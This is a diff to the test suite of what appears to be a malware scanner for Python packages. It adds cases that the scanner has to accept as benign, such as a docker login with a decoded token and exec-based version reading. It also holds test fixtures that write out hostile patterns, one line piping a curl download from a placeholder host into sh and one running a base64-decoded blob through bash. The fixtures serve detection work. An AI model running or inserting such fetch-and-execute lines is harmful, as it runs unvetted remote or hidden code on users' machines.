@@ -699,3 +699,30 @@ def test_third_held_out_batch_shapes() -> None:
     runs = ("import os\nINSTALL = 'curl -LsSf https://x.example.net/i.sh | sh'\n\n"
             "def go():\n    os.system(INSTALL)\n\ngo()\n")
     assert verdict(_lib(runs))[0] != "clean"
+
+
+def test_fourth_held_out_batch_shapes() -> None:
+    """Causes behind the fourth held-out batch's false positives: an Italian URL (``/guarda/``) as the
+    Guarda wallet folder (yt-dlp), a decoded registry token handed to ``docker login`` as a password
+    (nova-act's ECR login), version reading through a helper lambda (httpretty) or ``compile(open().read())``
+    (pycuda), and a bootstrap script in a source-tree folder that is no package (dict2xml's tools/)."""
+    files = {
+        "helperlib/sites.py": "SITES = ['https://www.popcorntv.it/guarda/film/1']\n",
+        "helperlib/ecr.py": "import base64, subprocess\n\ndef login(token, registry):\n"
+                            "    user, pwd = base64.b64decode(token).decode().split(':')\n"
+                            "    subprocess.run(['docker', 'login', '-u', user, '-p', pwd, registry], check=True)\n",
+        "helperlib/version.py": "version = '1.1.4'\n",
+        "tools/bootstrap_venv.py": "import os, sys\n"
+                                   "os.system(f'{sys.executable} -m pip install venvstarter -t deps')\n",
+    }
+    setup = ("import io, os\nfrom setuptools import setup\n"
+             "local_file = lambda *f: io.open(os.path.join(os.path.dirname(__file__), *f), encoding='utf-8').read()\n"
+             "ctx = {}\nexec(local_file('helperlib', 'version.py'), ctx)\n"
+             "p = 'helperlib/version.py'\nexec(compile(open(p).read(), p, 'exec'), ctx)\n"
+             "setup(name='helperlib', version=ctx['version'])\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": "", **files}))
+    assert result == "clean", findings
+    decoded_script = ("import base64, subprocess\n\ndef go(blob):\n"
+                      "    subprocess.run(['bash', '-c', base64.b64decode(blob).decode()])\n")
+    facts = facts_of(_lib(decoded_script))
+    assert [s for s in facts.signals if s.kind == "exec.decoded"]  # a decoded script for a shell still counts
